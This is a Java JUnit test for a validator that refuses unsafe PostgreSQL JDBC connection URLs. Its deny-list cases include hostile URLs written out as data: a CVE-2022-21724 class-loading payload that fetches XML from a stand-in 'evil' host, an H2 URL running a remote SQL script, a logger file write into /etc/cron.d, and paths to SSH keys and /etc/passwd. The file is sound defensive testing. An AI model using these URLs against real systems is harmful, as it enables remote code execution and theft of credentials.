package dev.exportdesk.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The team store URL is deny by default: pgjdbc options that load classes or write files never reach the driver. */
class StoreUrlTest {
    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:postgresql://db.example.com/exportdesk",
        "jdbc:postgresql://127.0.0.1:5432/exportdesk",
        "jdbc:postgresql://[::1]:5432/exportdesk",
        "jdbc:postgresql://db/exportdesk?sslmode=verify-full&sslrootcert=/etc/ssl/certs/team-ca.pem",
        "jdbc:postgresql://db/exportdesk?ssl=true&connectTimeout=5&socketTimeout=600&ApplicationName=exportdesk-worker",
        "jdbc:postgresql://db/exportdesk?targetServerType=primary&tcpKeepAlive=true&loginTimeout=10"})
    void plainStoreUrlsAreAccepted(String url) {
        assertThat(StoreUrl.problems(url)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        // CVE-2022-21724: class loading through the URL
        "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                + "&socketFactoryArg=http://evil/x.xml",
        "jdbc:postgresql://db/x?sslfactory=org.example.Evil&sslfactoryarg=x",
        "jdbc:postgresql://db/x?sslhostnameverifier=org.example.Evil",
        "jdbc:postgresql://db/x?sslpasswordcallback=org.example.Evil",
        "jdbc:postgresql://db/x?authenticationPluginClassName=org.example.Evil",
        // arbitrary file writes through the driver's logger
        "jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=/etc/cron.d/x",
        // server-side settings and credentials never come from the URL
        "jdbc:postgresql://db/x?options=-c%20search_path=evil",
        "jdbc:postgresql://db/x?password=hunter2",
        "jdbc:postgresql://db/x?service=team",
        "jdbc:postgresql://db/x?sslkey=/home/u/.ssh/id_rsa",
        "jdbc:postgresql://db/x?sslrootcert=../../etc/passwd%00",
        "jdbc:postgresql://db/x?sslmode=whatever",
        "jdbc:postgresql://db/x?SOCKETFACTORY=x",
        "jdbc:postgresql://a,b/x",
        "jdbc:postgresql:x",
        "jdbc:postgresql://db/x y",
        "jdbc:h2:file:/tmp/x",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:mysql://db/x",
        "jdbc:postgresql://db:99999/x",
        ""})
    void anythingElseIsRefused(String url) {
        assertThat(StoreUrl.problems(url)).isNotEmpty();
        assertThatThrownBy(() -> StoreUrl.check("EXPORTDESK_STORE_URL", url)).isInstanceOf(StoreConfigException.class)
                .hasMessageStartingWith("EXPORTDESK_STORE_URL ");
    }

    @Test
    void theRefusalNamesTheOptionAndTheAllowList() {
        assertThat(StoreUrl.problems("jdbc:postgresql://db/x?loggerFile=/tmp/x")).singleElement().asString()
                .contains("option \"loggerFile\" is not allowed").contains("sslmode");
    }
}
